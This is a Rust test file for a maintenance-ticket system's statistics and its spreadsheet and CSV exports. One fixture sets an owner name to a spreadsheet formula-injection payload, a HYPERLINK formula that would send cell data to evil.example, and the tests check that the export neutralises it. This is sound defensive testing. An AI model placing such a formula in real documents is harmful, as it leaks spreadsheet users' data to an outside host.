    let bytes = std::fs::read(&xlsx).unwrap();
    assert_eq!(sheet(&bytes, "工单").height(), 7);
}

// Exports are data, never formulas (issue 13, item 4).

const EVIL_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
const EVIL: u64 = 666;

/// The example: an owner named like a formula reports `/repair =1+2`; a second
/// report is 40,000 characters long.
async fn hostile_reports() -> Fixture {
    let f = Fixture::empty().await;
    let mut tx = f.store.begin().await.unwrap();
    let when = at("11-02 08:00");
    tx.touch_owner(EVIL, EVIL_NAME, None, when).await.unwrap();
    let long = "x".repeat(40_000);
    for (message, text) in [(1, "=1+2"), (2, long.as_str())] {
        let id = tx
            .insert_ticket(
                &NewTicket {
                    group_chat_id: G1,
                    report_message_id: message,
                    owner_id: EVIL,
                    unit: None,
                    category: Category::Plumbing,
                    text,
                    priority: false,
                    kind: butler::domain::Kind::Repair,
                    urgency: butler::domain::Urgency::B,
                    repeat_of: None,
                    reported_at: when,
                    staff_chat: None,
                },
                when,
            )
            .await
            .unwrap()
            .unwrap();
        let owner = Actor {
            id: EVIL,
            name: EVIL_NAME.to_owned(),
            is_manager: false,
        };
        tx.add_event(id, EventKind::Reported, &owner, None, when)
            .await
            .unwrap();
    }
    tx.commit().await.unwrap();
    f
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let f = hostile_reports().await;
    let settings = Settings::from_toml("default_locale = \"en\"\ntimezone = \"UTC\"").unwrap();
    let out = f._dir.path().join("csv");
    let files = export::write(
        &f.store,
        &settings,
        november(),
        export::ExportFormat::Csv,
        &out,
    )
    .await
    .unwrap();
    let tickets = std::fs::read_to_string(&files[0]).unwrap();
    let first = tickets.lines().nth(1).unwrap();
    assert!(
        first.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
        "the owner's name starts with a quote: {first}"
    );
    assert!(
        first.contains(",'=1+2,Repair,B,"),
        "the report starts with a quote: {first}"
    );
    assert!(
        !tickets.contains(",=") && !tickets.contains(",\"="),
        "{first}"
    );
}

#[tokio::test]
async fn xlsx_cells_hold_formula_like_text_as_strings_and_long_text_cut_with_a_mark() {
    let f = hostile_reports().await;
    let mut tx = f.store.begin().await.unwrap();
    let sheets = export::sheets(&mut tx, november(), &sla(), Locale::En, chrono_tz::UTC)
        .await
        .unwrap();
    drop(tx);
    let bytes = export::xlsx(&sheets).unwrap();
    let tickets = sheet(&bytes, "Tickets");
    assert_eq!(
        tickets.get((1, 4)),
        Some(&Data::String(EVIL_NAME.to_owned()))
    );
    assert_eq!(tickets.get((1, 15)), Some(&Data::String("=1+2".to_owned())));
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
    let formulas = book.worksheet_formula("Tickets").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell is a formula"
    );
    let Some(Data::String(long)) = tickets.get((2, 15)) else {
        panic!("the long report is a string: {:?}", tickets.get((2, 15)));
    };
    assert_eq!(long.chars().count(), export::XLSX_MAX_TEXT);
    assert!(long.ends_with("x…"), "cut with a mark");
}

#[tokio::test]
async fn butler_export_refuses_to_overwrite_a_file_unless_forced() {
    let f = Fixture::november().await;
    let db = f._dir.path().join("figures.db");
    let config = f._dir.path().join("butler.toml");
    std::fs::write(
        &config,
        format!("database_url = \"sqlite://{}\"\n", db.display()),
    )
    .unwrap();
    let xlsx = f._dir.path().join("nov.xlsx");
    std::fs::write(&xlsx, b"precious").unwrap();
    let dir = f._dir.path().join("csv");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("ratings.csv"), b"precious").unwrap();
    let export = |out: &std::path::Path, more: &[&str]| {
        let mut args = vec![
            "--config",
            config.to_str().unwrap(),
            "export",
            "--from",
            "2026-11-01",
            "--to",
            "2026-11-30",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend(more);
        butler(&args)
    };
    for (out, more, there) in [
        (&xlsx, &[][..], xlsx.clone()),
        (&dir, &["--format", "csv"][..], dir.join("ratings.csv")),
    ] {
        let refused = export(out, more);
        assert!(!refused.status.success());
        let err = String::from_utf8(refused.stderr).unwrap();
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.starts_with(&format!(
                "butler: export: {} already exists;",
                there.display()
            )) && err.contains("--force"),
            "{err}"
        );
        assert_eq!(std::fs::read(&there).unwrap(), b"precious");
        let mut forced = more.to_vec();
        forced.push("--force");
        let o = export(out, &forced);
        assert!(o.status.success(), "{o:?}");
        assert_ne!(std::fs::read(&there).unwrap(), b"precious");
    }
}

// Paused time is counted out (issue 14, item 4).

impl Fixture {
    async fn pause(&self, id: TicketId, who: &Actor, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        tx.set_paused(id, "waiting for a part", at(when))
            .await
            .unwrap();
        tx.add_event(id, EventKind::Paused, who, Some("part"), at(when))
            .await
            .unwrap();
        tx.commit().await.unwrap();
    }

    /// Ends the pause begun at `since`, as `tickets::resume` (and a completion) does.
    async fn resume(&self, id: TicketId, who: &Actor, since: &str, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        let secs = (at(when) - at(since)).num_seconds();
        tx.set_resumed(id, secs, at(when)).await.unwrap();
        tx.add_event(id, EventKind::Resumed, who, None, at(when))
            .await
            .unwrap();
        tx.commit().await.unwrap();
    }

    /// The paused tickets of the table below.
    ///
    /// | #  | by | reported    | taken | paused                     | done                 | to done          |
    /// |----|----|-------------|-------|----------------------------|----------------------|------------------|
    /// | P1 | A  | 11-02 08:00 | 08:10 | 09:00–11:00 (2 h)          | 12:00                | 4 h − 2 h = 2 h  |
    /// | P2 | B  | 11-03 08:00 | 08:05 | 08:30, done while paused   | 14:30 (pause 6 h)    | 6.5 h − 6 h = 30 m |
    /// | P3 | A  | 11-04 08:00 | 08:01 | after its completion: reopened 10:00, paused 11:00–13:00 | 09:00 | 1 h, not paused |
    /// | P4 | A  | 11-05 08:00 | 08:00 | 09:00–10:00 and 11:00–14:00 (4 h) | 15:00         | 7 h − 4 h = 3 h  |
    async fn paused() -> Self {
        let f = Self::empty().await;
        let p1 = f.report(G1, Category::Plumbing, "11-02 08:00", 1).await;
        f.take(p1, &A, "11-02 08:10").await;
        f.pause(p1, &A, "11-02 09:00").await;
        f.resume(p1, &A, "11-02 09:00", "11-02 11:00").await;
        f.done(p1, &A, "11-02 12:00").await;

        let p2 = f.report(G2, Category::Plumbing, "11-03 08:00", 2).await;
        f.take(p2, &B, "11-03 08:05").await;
        f.pause(p2, &B, "11-03 08:30").await;
        f.resume(p2, &B, "11-03 08:30", "11-03 14:30").await;
        f.done(p2, &B, "11-03 14:30").await;

        let p3 = f.report(G1, Category::Electrical, "11-04 08:00", 3).await;
        f.take(p3, &A, "11-04 08:01").await;
        f.done(p3, &A, "11-04 09:00").await;
        f.reopen(p3, "11-04 10:00").await;
        f.pause(p3, &A, "11-04 11:00").await;
        f.resume(p3, &A, "11-04 11:00", "11-04 13:00").await;

        let p4 = f.report(G1, Category::Plumbing, "11-05 08:00", 4).await;
        f.take(p4, &A, "11-05 08:00").await;
        f.pause(p4, &A, "11-05 09:00").await;
        f.resume(p4, &A, "11-05 09:00", "11-05 10:00").await;
        f.pause(p4, &A, "11-05 11:00").await;
        f.resume(p4, &A, "11-05 11:00", "11-05 14:00").await;
        f.done(p4, &A, "11-05 15:00").await;
        f
    }
}

fn paused_time(count: i64, median: i64, p90: i64, total: i64) -> PausedTime {
    PausedTime {
        per_ticket: Durations {
            count,
            median: hours(median),
            p90: hours(p90),
        },
        total: Duration::hours(total),
    }
}

#[tokio::test]
async fn the_time_to_done_leaves_paused_time_out_and_paused_time_is_a_figure() {
    let f = Fixture::paused().await;
    let got = f.figures(november(), Scope::all()).await;
    // Taken after 10, 5, 1 and 0 minutes: no pause can come before a take.
    assert_eq!(
        got.time_to_take,
        Durations {
            count: 4,
            median: minutes(1),
            p90: minutes(10),
        }
    );
    // 30 m (P2), 1 h (P3), 2 h (P1), 3 h (P4): ranks 2 and 4. Counting the paused time
    // in, they would be 1 h, 4 h, 6.5 h and 7 h.
    assert_eq!(
        got.time_to_done,
        Durations {
            count: 4,
            median: hours(1),
            p90: hours(3),
        }
    );
    // P1 2 h, P4 4 h, P2 6 h (P3's pause came after its completion): ranks ⌈1.5⌉ = 2
    // and ⌈2.7⌉ = 3; 12 h in all.
    assert_eq!(got.paused, paused_time(3, 4, 6, 12));

    let mut tx = f.store.begin().await.unwrap();
    let staff = tx
        .staff_figures(november(), Scope::all(), TAKE_MINUTES)
        .await
        .unwrap();
    let rows: Vec<(&str, PausedTime, Option<Duration>)> = staff
        .iter()
        .map(|s| {
            (
                s.name.as_str(),
                s.figures.paused,
                s.figures.time_to_done.median,
            )
        })
        .collect();
    assert_eq!(
        rows,
        vec![
            // P2 alone: 30 minutes to done, 6 h paused.
            ("Chen", paused_time(1, 6, 6, 6), minutes(30)),
            // P1 2 h and P4 4 h paused; 1 h, 2 h, 3 h to done.
            ("Wang", paused_time(2, 2, 4, 6), hours(2)),
        ]
    );
}

#[tokio::test]
async fn stats_and_the_export_show_the_paused_time() {
    let f = Fixture::paused().await;
    let settings = Settings::from_toml("timezone = \"UTC\"").unwrap();
    let overview = figures::overview(&f.store, november(), &settings)
        .await
        .unwrap();
    let text = figures::stats_text(&overview, 30, Locale::En, &settings);
    for line in [
        "Time to done (paused time left out): median 1 hour, 90% within 3 hours",
        "Paused time: 12 hours in all · median 4 hours, 90% within 6 hours per paused ticket (3 done after a pause)",
        "Chen: 1 · 1 · — · 0 · 6 hours",
        "Wang: 3 · 3 · — · 0 · 6 hours",
    ] {
        assert!(text.lines().any(|l| l == line), "{line:?} in\n{text}");
    }
    let zh = figures::stats_text(&overview, 30, Locale::ZhCn, &settings);
    assert!(
        zh.contains(
            "暂停时长：共 12 小时 · 每单中位数 4 小时，90% 在 6 小时 内（3 张完成的工单曾暂停）"
        ),
        "{zh}"
    );

    let mut tx = f.store.begin().await.unwrap();
    let sheets = export::sheets(&mut tx, november(), &sla(), Locale::En, chrono_tz::UTC)
        .await
        .unwrap();
    drop(tx);
    let bytes = export::xlsx(&sheets).unwrap();
    let tickets = sheet(&bytes, "Tickets");
    assert_eq!(
        tickets.get((0, 12)),
        Some(&Data::String("Hours paused".to_owned()))
    );
    // (hours to done, hours paused) of P1..P4; P3's pause ended after its completion.
    let cells: Vec<(Option<&Data>, Option<&Data>)> = (1..=4)
        .map(|row| (tickets.get((row, 11)), tickets.get((row, 12))))
        .collect();
    let f = |x: f64| Some(Data::Float(x));
    assert_eq!(
        cells
            .into_iter()
            .map(|(a, b)| (a.cloned(), b.cloned()))
            .collect::<Vec<_>>(),
        vec![
            (f(2.0), f(2.0)),
            (f(0.5), f(6.0)),
            (f(1.0), f(2.0)),
            (f(3.0), f(4.0)),
        ]
    );
    let staff = sheet(&bytes, "Staff figures");
    assert_eq!(
        staff.get((0, 11)),
        Some(&Data::String("Hours paused".to_owned()))
    );
    // Wang: two paused tickets, 6 hours.
    assert_eq!(staff.get((2, 10)), Some(&Data::Float(2.0)));
    assert_eq!(staff.get((2, 11)), Some(&Data::Float(6.0)));
}

// Figures of kinds, urgency and the owner's side (issue 15, item 7).

static BOSS: LazyLock<Actor> = LazyLock::new(|| Actor {
    id: 900,
    name: "Boss".to_owned(),
    is_manager: true,
});

fn li() -> Actor {
    staff(OWNER, "Li")
}

impl Fixture {
    async fn event(&self, id: TicketId, kind: EventKind, who: &Actor, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        match kind {
            EventKind::Closed => tx.close_request(id, at(when)).await.unwrap(),
            EventKind::Cancelled => tx
                .set_status(id, TicketStatus::Cancelled, at(when))
                .await
                .unwrap(),
            _ => {}
        }
        tx.add_event(id, kind, who, None, at(when)).await.unwrap();
        tx.commit().await.unwrap();
    }

    async fn answer(&self, id: TicketId, when: &str) {
        self.event(id, EventKind::Answered, &BOSS, when).await;
    }

    async fn close(&self, id: TicketId, when: &str) {
        self.event(id, EventKind::Closed, &BOSS, when).await;
    }

    /// The data set of kinds: complaints (C), suggestions (S), urgent repairs (U) and two
    /// plain repairs (R), in the order reported (ticket numbers 1 to 16). Complaint
    /// limits: first response within 2 hours, closed within 48 hours.
    ///
    /// | #      | kind      | group | reported    | what happened                                          |
    /// |--------|-----------|-------|-------------|--------------------------------------------------------|
    /// | 1 U0   | A repair  | G1    | 10-31 23:50 | taken by Wang 11-01 00:02 (12 m)                       |
    /// | 2 C5   | complaint | G2    | 10-31 23:30 | answered 11-01 00:30 (1 h), closed 01:00 (1.5 h)        |
    /// | 3 C1   | complaint | G1    | 11-02 08:00 | answered 09:00 (1 h), closed 11-05 10:00 (74 h: late)   |
    /// | 4 U1   | A repair  | G1    | 11-03 07:00 | taken by Wang 07:04 (4 m)                              |
    /// | 5 C2   | complaint | G2    | 11-05 10:00 | answered 13:00 (3 h: late), closed 11-08 10:00 (72 h)   |
    /// | 6 U2   | A repair  | G2    | 11-06 07:00 | taken by Chen 07:30 (30 m)                             |
    /// | 7 R1   | repair    | G1    | 11-08 09:00 | repeat of U0; taken by Wang 09:05                      |
    /// | 8 R2   | repair    | G2    | 11-09 09:00 | taken by Chen 09:20                                    |
    /// | 9 C6   | complaint | G1    | 11-10 08:00 | closed 09:00, never answered: the close answers (1 h)  |
    /// | 10 C7  | complaint | G2    | 11-12 08:00 | withdrawn 08:30, never answered                        |
    /// | 11 S1  | suggestion| G1    | 11-15 09:00 | answered 10:00 (a suggestion has no clock)             |
    /// | 12 S2  | suggestion| G2    | 11-16 09:00 | —                                                      |
    /// | 13 C3  | complaint | G1    | 11-20 08:00 | nothing: due 11-20 10:00 and 11-22 08:00, late on both |
    /// | 14 U3  | A repair  | G1    | 11-25 07:00 | never taken; Hurry up 07:20, 08:30 and 12-01 10:00     |
    /// | 15 U4  | A repair  | G1    | 11-26 07:00 | withdrawn 07:10                                        |
    /// | 16 C4  | complaint | G1    | 11-30 23:00 | nothing: due in December                               |
    async fn kinds() -> Self {
        use Kind::{Complaint, Suggestion};
        let f = Self::empty().await;
        let u0 = f.report_as(Request::urgent(G1), "10-31 23:50", 1).await;
        f.take(u0, &A, "11-01 00:02").await;
        let c5 = f
            .report_as(Request::of(Complaint, G2), "10-31 23:30", 2)
            .await;
        f.answer(c5, "11-01 00:30").await;
        f.close(c5, "11-01 01:00").await;
        let c1 = f
            .report_as(Request::of(Complaint, G1), "11-02 08:00", 3)
            .await;
        f.answer(c1, "11-02 09:00").await;
        f.close(c1, "11-05 10:00").await;
        let u1 = f.report_as(Request::urgent(G1), "11-03 07:00", 4).await;
        f.take(u1, &A, "11-03 07:04").await;
        let c2 = f
            .report_as(Request::of(Complaint, G2), "11-05 10:00", 5)
            .await;
        f.answer(c2, "11-05 13:00").await;
        f.close(c2, "11-08 10:00").await;
        let u2 = f.report_as(Request::urgent(G2), "11-06 07:00", 6).await;
        f.take(u2, &B, "11-06 07:30").await;
        let repeat = Request {
            repeat_of: Some(u0),
            ..Request::repair(G1, Category::Plumbing)
        };
        let r1 = f.report_as(repeat, "11-08 09:00", 7).await;
        f.take(r1, &A, "11-08 09:05").await;
        let r2 = f.report(G2, Category::Electrical, "11-09 09:00", 8).await;
        f.take(r2, &B, "11-09 09:20").await;
        let c6 = f
            .report_as(Request::of(Complaint, G1), "11-10 08:00", 9)
            .await;
        f.close(c6, "11-10 09:00").await;
        let c7 = f
            .report_as(Request::of(Complaint, G2), "11-12 08:00", 10)
            .await;
        f.event(c7, EventKind::Cancelled, &li(), "11-12 08:30")
            .await;
        let s1 = f
            .report_as(Request::of(Suggestion, G1), "11-15 09:00", 11)
            .await;
        f.answer(s1, "11-15 10:00").await;
        f.report_as(Request::of(Suggestion, G2), "11-16 09:00", 12)
            .await;
        f.report_as(Request::of(Complaint, G1), "11-20 08:00", 13)
            .await;
        let u3 = f.report_as(Request::urgent(G1), "11-25 07:00", 14).await;
        for when in ["11-25 07:20", "11-25 08:30", "12-01 10:00"] {
            f.event(u3, EventKind::Hurried, &li(), when).await;
        }
        let u4 = f.report_as(Request::urgent(G1), "11-26 07:00", 15).await;
        f.event(u4, EventKind::Cancelled, &li(), "11-26 07:10")
            .await;
        f.report_as(Request::of(Complaint, G1), "11-30 23:00", 16)
            .await;
        f
    }

    async fn kind_figures(&self, period: Period, scope: Scope, until: &str) -> KindFigures {
        let limits = ComplaintLimits::new(120, 48);
        self.store
            .kind_figures(period, scope, TicketScope::All, limits, at(until))
            .await
            .unwrap()
    }
}

#[tokio::test]
async fn every_figure_of_kinds_matches_the_hand_count() {
    let f = Fixture::kinds().await;
    let got = f
        .kind_figures(november(), Scope::all(), "12-01 00:00")
        .await;
    let expected = KindFigures {
        // C1, C2, C3, C4, C6, C7 (C5 was made in October).
        complaints: 6,
        // First responses in November: C5 1 h, C1 1 h, C6 1 h (its close), C2 3 h (late);
        // C3 never answered, due 11-20 10:00: late. C7 was withdrawn unanswered, C4 is
        // due in December: neither counts. 3 of 5.
        first_response: Ratio::new(3, 5),
        // Closed in November: C5 1.5 h, C6 1 h, C1 74 h and C2 72 h (late); C3 still
        // open past 11-22 08:00: late. 2 of 5.
        reply: Ratio::new(2, 5),
        suggestions: 2,
        // U1, U2, U3, U4; U3 nobody took (U4 was withdrawn).
        urgent: 4,
        urgent_waiting: 1,
        // First taken in November: U1 4 m, U0 12 m, U2 30 m: ranks ⌈1.5⌉ = 2 and ⌈2.7⌉ = 3.
        urgent_take: Durations {
            count: 3,
            median: minutes(12),
            p90: minutes(30),
        },
        // U3's two presses in November (the third is December's).
        hurry_ups: 2,
        // C7 and U4.
        cancelled: 2,
        // Repairs reported in November: U1, U2, U3, U4, R1, R2; R1 repeats U0.
        repeats: Ratio::new(1, 6),
    };
    assert_eq!(got, expected);
    assert_eq!(got.repeats.percent().as_deref(), Some("16.7%"));

    // The repairs' figures leave complaints and suggestions out: 6 reported, not 14, and
    // the take rate counts only repairs left untaken. Taken in November: U0 12 m, U1
    // 4 m, U2 30 m, R1 5 m, R2 20 m (2 on time); U3 untaken past 11-25 07:10: late.
    // Counting the untaken complaints and suggestions (C3, C4, S1, S2) would make it
    // 2 of 10.
    let repairs = f.figures(november(), Scope::all()).await;
    assert_eq!(repairs.reported, 6);
    assert_eq!(repairs.on_time_take, Ratio::new(2, 6));
}

#[tokio::test]
async fn figures_of_kinds_narrow_to_an_owner_group() {
    let f = Fixture::kinds().await;
    let got = f
        .kind_figures(november(), Scope::group(G2), "12-01 00:00")
        .await;
    let expected = KindFigures {
        // C2, C7.
        complaints: 2,
        // C5 on time, C2 late (first response and close alike).
        first_response: Ratio::new(1, 2),
        reply: Ratio::new(1, 2),
        suggestions: 1,
        urgent: 1,
        urgent_waiting: 0,
        urgent_take: Durations {
            count: 1,
            median: minutes(30),
            p90: minutes(30),
        },
        hurry_ups: 0,
        cancelled: 1,
        // U2, R2: no repeat.
        repeats: Ratio::new(0, 2),
    };
    assert_eq!(got, expected);
    let quiet = Period::new(at("06-01 00:00"), at("07-01 00:00")).unwrap();
    let none = f.kind_figures(quiet, Scope::all(), "07-01 00:00").await;
    assert_eq!(none, KindFigures::default());
    assert_eq!(none.first_response.percent(), None, "no division by zero");
}

/// C3, made 11-20 08:00, is nobody's answer yet: late on the 20th once 10:00 has passed
/// (not before), and, answered the next morning, late on the 21st instead.
#[tokio::test]
async fn a_complaint_unanswered_past_its_time_counts_as_late_when_due() {
    let f = Fixture::kinds().await;
    let the_20th = Period::new(at("11-20 00:00"), at("11-21 00:00")).unwrap();
    let early = f.kind_figures(the_20th, Scope::all(), "11-20 09:00").await;
    assert_eq!(early.complaints, 1);
    assert_eq!(early.first_response, Ratio::new(0, 0));
    let due = f.kind_figures(the_20th, Scope::all(), "11-20 12:00").await;
    assert_eq!(due.first_response, Ratio::new(0, 1));
    assert_eq!(due.reply, Ratio::new(0, 0), "closing is due on the 22nd");

    f.answer(TicketId(13), "11-21 09:00").await;
    let day = f.kind_figures(the_20th, Scope::all(), "11-21 00:00").await;
    assert_eq!(
        day.first_response,
        Ratio::new(0, 0),
        "answered: counted on the 21st"
    );
    let the_21st = Period::new(at("11-21 00:00"), at("11-22 00:00")).unwrap();
    let next = f.kind_figures(the_21st, Scope::all(), "11-22 00:00").await;
    assert_eq!(next.first_response, Ratio::new(0, 1), "25 hours: late");
    // November as a whole: still 3 of 5, C3 once.
    let month = f
        .kind_figures(november(), Scope::all(), "12-01 00:00")
        .await;
    assert_eq!(month.first_response, Ratio::new(3, 5));
}

#[tokio::test]
async fn stats_and_the_monthly_report_show_the_figures_of_kinds() {
    let f = Fixture::kinds().await;
    let settings = Settings::from_toml("timezone = \"UTC\"\ndefault_locale = \"en\"").unwrap();
    let overview = figures::overview(&f.store, november(), &settings)
        .await
        .unwrap();
    let text = figures::stats_text(&overview, 30, Locale::En, &settings);
    for line in [
        "Reported 6 · taken 5 · done 0",
        "Taken on time 33.3% (2 of 6 within 10 minutes)",
        "Urgent (A) repairs: 4 reported, 1 still waiting to be taken · time to take: median 12 minutes, 90% within 30 minutes",
        "Complaints: 6 · first response on time 60% (3 of 5 within 2 hours) · closed on time 40% (2 of 5 within 2 days)",
        "Suggestions: 2",
        "Hurry-ups pressed: 2 · reports withdrawn by their owner: 2",
        "Repeat repairs (same unit and category within 30 days of a finished one): 1 of 6 repairs (16.7%)",
    ] {
        assert!(text.lines().any(|l| l == line), "{line:?} in\n{text}");
    }
    let zh = figures::stats_text(&overview, 30, Locale::ZhCn, &settings);
    assert!(
        zh.contains("投诉：6 件 · 首次回复及时率 60%（5 件中 3 件在 2 小时内回复）· 办结及时率 40%（5 件中 2 件在 2 天内办结）"),
        "{zh}"
    );

    let now = at("12-01 01:00");
    let mut tx = f.store.begin_read().await.unwrap();
    let report = figures::monthly_report_text(&f.store, &mut tx, &settings, now, Locale::En)
        .await
        .unwrap();
    // October: U0 (a repair, urgent) and C5 (a complaint whose clocks ran in November).
    for line in [
        "Tickets reported: 6 (2026-10: 1)",
        "Urgent (A) repairs: 4 (2026-10: 1)",
        "Urgent (A) median time to take: 12 minutes (2026-10: —)",
        "Complaints: 6 (2026-10: 1)",
        "Complaints with a first response on time: 60% (2026-10: —)",
        "Complaints closed on time: 40% (2026-10: —)",
        "Suggestions: 2 (2026-10: 0)",
        "Hurry-ups pressed: 2 (2026-10: 0)",
        "Reports withdrawn by their owner: 2 (2026-10: 0)",
        "Repeat-repair rate: 16.7% (2026-10: 0%)",
    ] {
        assert!(report.lines().any(|l| l == line), "{line:?} in\n{report}");
    }
}

#[tokio::test]
async fn the_export_has_the_kinds_sheet_and_the_new_ticket_columns() {
    let f = Fixture::kinds().await;
    let mut tx = f.store.begin_read().await.unwrap();
    let sheets = export::sheets(&mut tx, november(), &sla(), Locale::En, chrono_tz::UTC)
        .await
        .unwrap();
    drop(tx);
    let bytes = export::xlsx(&sheets).unwrap();

    let kinds = sheet(&bytes, "Kinds and urgency");
    let row = |r: u32| -> Vec<Data> {
        (0..4)
            .map(|c| kinds.get((r as usize, c)).cloned().unwrap_or(Data::Empty))
            .collect()
    };
    let s = |x: &str| Data::String(x.to_owned());
    let n = |x: f64| Data::Float(x);
    assert_eq!(
        row(0),
        [s("Figure"), s("Value"), s("Of which"), s("Out of")]
    );
    assert_eq!(row(1), [s("Complaints"), n(6.0), Data::Empty, Data::Empty]);
    assert_eq!(
        row(2),
        [
            s("Complaints with a first response on time"),
            n(0.6),
            n(3.0),
            n(5.0)
        ]
    );
    assert_eq!(
        row(3),
        [s("Complaints closed on time"), n(0.4), n(2.0), n(5.0)]
    );
    assert_eq!(row(4), [s("Suggestions"), n(2.0), Data::Empty, Data::Empty]);
    assert_eq!(
        row(5),
        [s("Urgent (A) repairs"), n(4.0), Data::Empty, Data::Empty]
    );
    assert_eq!(
        row(6),
        [
            s("Urgent (A) repairs still waiting to be taken"),
            n(1.0),
            Data::Empty,
            Data::Empty
        ]
    );
    assert_eq!(
        row(7),
        [
            s("Urgent (A) median minutes to take"),
            n(12.0),
            Data::Empty,
            n(3.0)
        ]
    );
    assert_eq!(
        row(8),
        [s("Hurry-ups pressed"), n(2.0), Data::Empty, Data::Empty]
    );
    assert_eq!(
        row(9),
        [
            s("Reports withdrawn by their owner"),
            n(2.0),
            Data::Empty,
            Data::Empty
        ]
    );
    assert_eq!(
        row(10),
        [s("Repeat-repair rate"), n(1.0 / 6.0), n(1.0), n(6.0)]
    );

    // Tickets: repairs and suggestions, never a complaint's words.
    let tickets = sheet(&bytes, "Tickets");
    let header: Vec<Data> = (16..20)
        .map(|c| tickets.get((0, c)).cloned().unwrap())
        .collect();
    assert_eq!(
        header,
        [
            s("Kind"),
            s("Urgency"),
            s("Repeat of ticket"),
            s("Hurry-ups")
        ]
    );
    let listed: Vec<(Data, Vec<Data>)> = (1..tickets.height())
        .map(|r| {
            let cells = (16..20)
                .map(|c| tickets.get((r, c)).cloned().unwrap_or(Data::Empty))
                .collect();
            (tickets.get((r, 0)).cloned().unwrap(), cells)
        })
        .collect();
    let repair = |u: &str, repeat: Data, hurry: f64| vec![s("Repair"), s(u), repeat, n(hurry)];
    assert_eq!(
        listed,
        vec![
            (n(4.0), repair("A", Data::Empty, 0.0)),
            (n(6.0), repair("A", Data::Empty, 0.0)),
            (n(7.0), repair("B", n(1.0), 0.0)),
            (n(8.0), repair("B", Data::Empty, 0.0)),
            (n(11.0), vec![s("Suggestion"), s("B"), Data::Empty, n(0.0)]),
            (n(12.0), vec![s("Suggestion"), s("B"), Data::Empty, n(0.0)]),
            // Every press of the ticket, December's too.
            (n(14.0), repair("A", Data::Empty, 3.0)),
            (n(15.0), repair("A", Data::Empty, 0.0)),
        ]
    );
}
